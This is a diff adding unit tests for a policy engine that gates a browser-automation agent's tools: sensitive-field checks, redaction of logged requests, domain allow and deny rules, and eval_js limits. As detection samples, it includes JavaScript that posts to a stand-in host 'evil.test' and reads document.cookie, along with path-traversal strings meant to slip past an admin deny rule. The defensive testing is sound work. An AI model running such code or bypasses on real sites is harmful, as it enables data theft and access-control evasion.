@@ -65,6 +65,44 @@ describe("PolicyEngine", () => {
     });
   });
 
+  describe("Operation Mode", () => {
+    it("should allow writes without approval in auto mode", () => {
+      const decision = policyEngine.checkOperationMode("write");
+      expect(decision.allowed).toBe(true);
+      expect(decision.requiresApproval).toBe(false);
+    });
+
+    it("should reject writes in readonly mode", () => {
+      policyEngine.setOperationMode("readonly");
+      expect(policyEngine.checkOperationMode("write").allowed).toBe(false);
+      expect(policyEngine.checkOperationMode("read").allowed).toBe(true);
+    });
+
+    it("should require approval for writes in ask mode", () => {
+      policyEngine.setOperationMode("ask");
+      expect(policyEngine.checkOperationMode("write").requiresApproval).toBe(
+        true
+      );
+      expect(policyEngine.checkOperationMode("read").requiresApproval).toBe(
+        false
+      );
+    });
+
+    it("should keep a mode per client", () => {
+      policyEngine.setOperationMode("readonly", "client-1");
+      policyEngine.setOperationMode("auto", "client-2");
+      expect(policyEngine.checkOperationMode("write", "client-1").allowed).toBe(
+        false
+      );
+      expect(policyEngine.checkOperationMode("write", "client-2").allowed).toBe(
+        true
+      );
+
+      policyEngine.pruneOperationModes(new Set(["client-2"]));
+      expect(policyEngine.getOperationMode("client-1")).toBe("auto");
+    });
+  });
+
   describe("Rate Limiting", () => {
     it("should allow requests within rate limits", () => {
       const decision = policyEngine.checkRateLimit("test");
@@ -125,6 +163,87 @@ describe("PolicyEngine", () => {
       expect(decision.requiresApproval).toBe(true);
     });
 
+    it("should detect sensitive fields targeted by locator", () => {
+      const decision = policyEngine.checkSensitiveData(
+        "type_text",
+        { locator: { label: "Password", exact: false }, text: "hunter2" },
+        "https://example.com/login"
+      );
+      expect(decision.requiresApproval).toBe(true);
+    });
+
+    it("should check every fill_form field for sensitive targets", () => {
+      const decision = policyEngine.checkSensitiveData(
+        "fill_form",
+        {
+          fields: [
+            { selector: "#city", value: "Lisbon" },
+            { selector: 'input[type="password"]', value: "hunter2" },
+          ],
+        },
+        "https://example.com/signup"
+      );
+      expect(decision.requiresApproval).toBe(true);
+      expect(decision.reason).toContain('input[type="password"]');
+
+      expect(
+        policyEngine.checkSensitiveData(
+          "fill_form",
+          { fields: [{ locator: { label: "City" }, value: "Lisbon" }] },
+          "https://example.com/signup"
+        ).requiresApproval
+      ).toBe(false);
+    });
+
+    it("should screen press_keys targets and typed characters", () => {
+      expect(
+        policyEngine.checkSensitiveData(
+          "press_keys",
+          { selector: "#password", keys: ["h", "i"] },
+          "https://example.com/login"
+        ).reason
+      ).toBe("Pressing keys in sensitive field");
+
+      const digits = "4111111111111111".split("");
+      expect(
+        policyEngine.checkSensitiveData(
+          "press_keys",
+          { keys: [...digits, "Enter"] },
+          "https://example.com/"
+        ).reason
+      ).toBe("Keys spell out sensitive data");
+
+      expect(
+        policyEngine.checkSensitiveData(
+          "press_keys",
+          { keys: ["Control+Shift+K", "Tab", "Enter"] },
+          "https://example.com/"
+        ).requiresApproval
+      ).toBe(false);
+    });
+
+    it("should flag eval_js code that can exfiltrate data", () => {
+      const check = (code: string) =>
+        policyEngine.checkSensitiveData(
+          "eval_js",
+          { code },
+          "https://example.com/"
+        );
+
+      expect(
+        check("return fetch('https://evil.test', { method: 'POST' })").reason
+      ).toBe("JavaScript uses fetch");
+      expect(
+        check("localStorage.x = document.cookie; form.requestSubmit();").reason
+      ).toBe("JavaScript uses document.cookie, localStorage, form submission");
+      expect(check("new XMLHttpRequest()").requiresApproval).toBe(true);
+      expect(
+        check("document.querySelector('.cookie-banner button').click()")
+          .requiresApproval
+      ).toBe(false);
+      expect(check("return document.title").requiresApproval).toBe(false);
+    });
+
     it("should detect large POST bodies", () => {
       const largeText = "x".repeat(10000);
       const decision = policyEngine.checkLargePostBody(largeText);
@@ -147,6 +266,320 @@ describe("PolicyEngine", () => {
       // cardNumber is also treated as sensitive field, so it gets [REDACTED]
       expect(redacted.cardNumber).toBe("[REDACTED]");
     });
+
+    it("should redact recorded network requests", () => {
+      const redacted = policyEngine.redactNetworkEntry({
+        requestId: "1",
+        url: "https://api.example.com/items?api_key=abc&page=2",
+        method: "POST",
+        resourceType: "Fetch",
+        startedAt: 0,
+        requestHeaders: {
+          Authorization: "Bearer abc",
+          Cookie: "session=abc",
+          Accept: "application/json",
+        },
+        postData: JSON.stringify({ password: "hunter2", name: "Ada" }),
+        body: JSON.stringify([{ token: "abc", id: "x" }]),
+      });
+
+      expect(redacted.url).toBe(
+        "https://api.example.com/items?api_key=%5BREDACTED%5D&page=2"
+      );
+      expect(redacted.requestHeaders).toEqual({
+        Authorization: "[REDACTED]",
+        Cookie: "[REDACTED]",
+        Accept: "application/json",
+      });
+      expect(JSON.parse(redacted.postData!)).toEqual({
+        password: "[REDACTED]",
+        name: "Ada",
+      });
+      expect(JSON.parse(redacted.body!)).toEqual([
+        { token: "[REDACTED]", id: "x" },
+      ]);
+    });
+
+    it("should redact console entries", () => {
+      const redacted = policyEngine.redactConsoleEntry({
+        seq: 1,
+        level: "error",
+        source: "exception",
+        text: "Signup failed for ada@example.com",
+        timestamp: 0,
+        url: "https://example.com/app.js?token=abc",
+        stack: "at submit (https://example.com/app.js:10:5)",
+      });
+
+      expect(redacted.text).not.toContain("ada@example.com");
+      expect(redacted.url).toBe(
+        "https://example.com/app.js?token=%5BREDACTED%5D"
+      );
+      expect(redacted.stack).toBe(
+        "at submit (https://example.com/app.js:10:5)"
+      );
+    });
+  });
+
+  describe("Policy Rules", () => {
+    const engineWith = (updates: Partial<Configuration>) =>
+      new PolicyEngine({ ...config, ...updates });
+    const allows = (
+      engine: PolicyEngine,
+      url: string,
+      operation: "read" | "write",
+      tool?: string
+    ) => engine.checkDomainPolicy(url, operation, tool).allowed;
+
+    it("should match subdomain wildcards on label boundaries", () => {
+      const engine = engineWith({
+        allowlist: { "*.example.com": { read: true, write: false } },
+      });
+
+      expect(allows(engine, "https://example.com/", "read")).toBe(true);
+      expect(allows(engine, "https://a.b.example.com/", "read")).toBe(true);
+      expect(allows(engine, "https://notexample.com/", "read")).toBe(false);
+      expect(allows(engine, "https://example.com.evil.io/", "read")).toBe(
+        false
+      );
+    });
+
+    it("should prefer more specific allowlist entries, including paths", () => {
+      const engine = engineWith({
+        allowlist: {
+          "github.com": { read: true, write: false },
+          "github.com/myorg/**": { read: true, write: true },
+          "github.com/*/settings": { read: false, write: false },
+        },
+      });
+
+      expect(allows(engine, "https://github.com/myorg", "write")).toBe(true);
+      expect(
+        allows(engine, "https://github.com/myorg/repo/pulls?q=1", "write")
+      ).toBe(true);
+      expect(allows(engine, "https://github.com/other/repo", "write")).toBe(
+        false
+      );
+      expect(allows(engine, "https://github.com/other/repo", "read")).toBe(
+        true
+      );
+      expect(allows(engine, "https://github.com/other/settings", "read")).toBe(
+        false
+      );
+    });
+
+    it("should match schemes and ports", () => {
+      const engine = engineWith({
+        allowlist: {},
+        rules: [
+          { match: "http://localhost:3000", read: true, write: true },
+          { match: "https://*.example.com:*", read: true },
+          { match: "intranet.local:443", read: true },
+        ],
+      });
+
+      expect(allows(engine, "http://localhost:3000/app", "write")).toBe(true);
+      expect(allows(engine, "http://localhost:4000/app", "read")).toBe(false);
+      expect(allows(engine, "https://localhost:3000/", "read")).toBe(false);
+      expect(allows(engine, "https://a.example.com:8443/", "read")).toBe(true);
+      expect(allows(engine, "http://a.example.com/", "read")).toBe(false);
+      expect(allows(engine, "https://intranet.local/", "read")).toBe(true);
+      expect(allows(engine, "http://intranet.local/", "read")).toBe(false);
+    });
+
+    it("should apply the first matching rule before the allowlist", () => {
+      const engine = engineWith({
+        rules: [
+          { match: "example.com/public/**", read: true, write: true },
+          { match: "example.com", read: true, write: false },
+        ],
+        allowlist: { "example.com": { read: true, write: true } },
+      });
+
+      expect(allows(engine, "https://example.com/public/a", "write")).toBe(
+        true
+      );
+      expect(allows(engine, "https://example.com/private", "write")).toBe(
+        false
+      );
+    });
+
+    it("should let deny rules win over earlier allows", () => {
+      const engine = engineWith({
+        rules: [
+          { match: "*.example.com", read: true, write: true },
+          { match: "example.com/admin/**", deny: true },
+        ],
+      });
+
+      expect(allows(engine, "https://example.com/home", "write")).toBe(true);
+      expect(allows(engine, "https://example.com/admin", "read")).toBe(false);
+      expect(allows(engine, "https://example.com/Admin/users", "read")).toBe(
+        false
+      );
+      expect(
+        engine.checkDomainPolicy("https://example.com/admin/users", "read")
+          .reason
+      ).toContain("denied by rules[1] (example.com/admin/**)");
+    });
+
+    it("should normalize paths before matching path rules", () => {
+      const engine = engineWith({
+        rules: [{ match: "example.com/admin/**", deny: true }],
+      });
+
+      for (const path of [
+        "/%61dmin/x",
+        "//admin/x",
+        "/admin%2Fx",
+        "/docs/..%2Fadmin",
+        "/docs%5C..%5Cadmin/x",
+        "/./admin/",
+      ]) {
+        expect(allows(engine, `https://example.com${path}`, "read")).toBe(
+          false
+        );
+      }
+      expect(allows(engine, "https://example.com/administrator", "read")).toBe(
+        true
+      );
+      expect(allows(engine, "https://example.com/docs/%ZZ", "read")).toBe(true);
+    });
+
+    it("should apply per-tool overrides", () => {
+      const engine = engineWith({
+        rules: [
+          {
+            match: "docs.example.com",
+            read: false,
+            write: false,
+            tools: { read_text: "allow", click: "approval" },
+          },
+          { match: "*.example.com", tools: { eval_js: "deny" } },
+        ],
+        allowlist: { "*.example.com": { read: true, write: true } },
+      });
+      const url = "https://docs.example.com/guide";
+
+      expect(allows(engine, url, "read", "read_text")).toBe(true);
+      expect(allows(engine, url, "read", "read_dom")).toBe(false);
+      expect(engine.checkDomainPolicy(url, "write", "click")).toMatchObject({
+        allowed: true,
+        requiresApproval: true,
+      });
+      expect(allows(engine, url, "write", "eval_js")).toBe(false);
+      expect(allows(engine, "https://example.com/", "write", "eval_js")).toBe(
+        false
+      );
+      expect(allows(engine, "https://example.com/", "write", "click")).toBe(
+        true
+      );
+    });
+
+    it("should explain which rule decided a call", () => {
+      const engine = engineWith({
+        rules: [{ match: "*.example.com", tools: { eval_js: "deny" } }],
+      });
+
+      const explanation = engine.explainPolicy(
+        "https://example.com/",
+        "eval_js",
+        "write"
+      );
+      expect(explanation).toMatchObject({
+        allowed: false,
+        rule: {
+          source: "rules",
+          index: 0,
+          match: "*.example.com",
+          toolPermission: "deny",
+        },
+        evalJs: "isolated",
+      });
+      expect(explanation.matchedRules.map((rule) => rule.match)).toEqual([
+        "*.example.com",
+        "example.com",
+      ]);
+
+      const unmatched = engine.explainPolicy(
+        "https://unknown.org/",
+        "read_text",
+        "read"
+      );
+      expect(unmatched.rule).toBeNull();
+      expect(unmatched.reason).toContain("no rule matches");
+    });
+  });
+
+  describe("eval_js Policy", () => {
+    it("should only allow the isolated world by default", () => {
+      expect(
+        policyEngine.checkEvalJs("https://example.com/", "isolated")
+      ).toMatchObject({ allowed: true, requiresApproval: false });
+
+      const main = policyEngine.checkEvalJs("https://example.com/", "main");
+      expect(main.allowed).toBe(false);
+      expect(main.reason).toBe(
+        "eval_js on example.com may only run in the isolated world by the default evalJs mode"
+      );
+    });
+
+    it("should apply the evalJs mode of the matching rules", () => {
+      const engine = new PolicyEngine({
+        ...config,
+        allowlist: {
+          ...config.allowlist,
+          localhost: { read: true, write: true, evalJs: "main" },
+        },
+        rules: [
+          { match: "example.com/admin/**", evalJs: "off" },
+          { match: "bank.com", evalJs: "approval" },
+        ],
+      });
+
+      expect(engine.checkEvalJs("http://localhost:3000/", "main").allowed).toBe(
+        true
+      );
+      expect(
+        engine.checkEvalJs("https://example.com/admin/", "isolated")
+      ).toMatchObject({
+        allowed: false,
+        reason:
+          "eval_js is off on example.com by rules[0] (example.com/admin/**)",
+      });
+      expect(engine.checkEvalJs("https://bank.com/", "main")).toMatchObject({
+        allowed: true,
+        requiresApproval: true,
+        reason: "rules[1] (bank.com) requires approval for eval_js",
+      });
+    });
+  });
+
+  describe("Configuration Updates", () => {
+    it("should apply a reloaded allowlist", () => {
+      policyEngine.updateConfiguration({
+        allowlist: { "example.com": { read: true, write: true } },
+      });
+
+      expect(
+        policyEngine.checkDomainPolicy("https://example.com/", "write").allowed
+      ).toBe(true);
+      expect(
+        policyEngine.checkDomainPolicy("http://localhost/", "read").allowed
+      ).toBe(false);
+    });
+
+    it("should rebuild redaction from new sensitive patterns", () => {
+      expect(policyEngine.redactToolArguments({ nickname: "ada" })).toEqual({
+        nickname: "ada",
+      });
+
+      policyEngine.updateConfiguration({ sensitivePatterns: ["nickname"] });
+
+      expect(policyEngine.redactToolArguments({ nickname: "ada" })).toEqual({
+        nickname: "[REDACTED]",
+      });
+    });
   });
 
   describe("Session Management", () => {